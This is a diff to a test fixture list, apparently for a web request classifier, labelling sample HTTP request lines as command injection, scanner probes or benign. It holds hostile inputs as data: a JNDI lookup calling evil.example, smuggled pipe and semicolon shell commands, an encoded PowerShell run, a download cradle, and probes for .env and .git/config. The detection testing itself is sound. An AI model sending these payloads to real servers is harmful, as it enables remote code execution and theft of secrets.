@@ -238,8 +238,14 @@ CATEGORIES = [
     (b"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1", "command_injection"),
     (b"GET /?x=${${lower:j}ndi:x} HTTP/1.1", "command_injection"),
     (b"GET /x?cmd=/bin/bash HTTP/1.1", "command_injection"),
-    (b"GET /x?run=cmd.exe HTTP/1.1", "command_injection"),
-    (b"GET /x?run=PowerShell HTTP/1.1", "command_injection"),
+    (b"GET /scripts/cmd.exe?/c+dir HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=1|cmd+/c+whoami HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=1;powershell HTTP/1.1", "command_injection"),
+    (b"GET /x?run=powershell.exe+-nop+-enc+SQBFAFgA HTTP/1.1", "command_injection"),
+    (b"GET /x?run=PowerShell+IEX(New-Object+Net.WebClient) HTTP/1.1", "command_injection"),
+    # a page, tag or download named after a shell is none
+    (b"GET /x?run=cmd.exe HTTP/1.1", None),
+    (b"GET /x?l=PowerShell HTTP/1.1", None),
     # scanner probes (software_probe: paths of software a site may run, a probe only when answered 4xx)
     (b"GET /.env HTTP/1.1", "scanner_probe"),
     (b"GET /.git/config HTTP/1.1", "scanner_probe"),
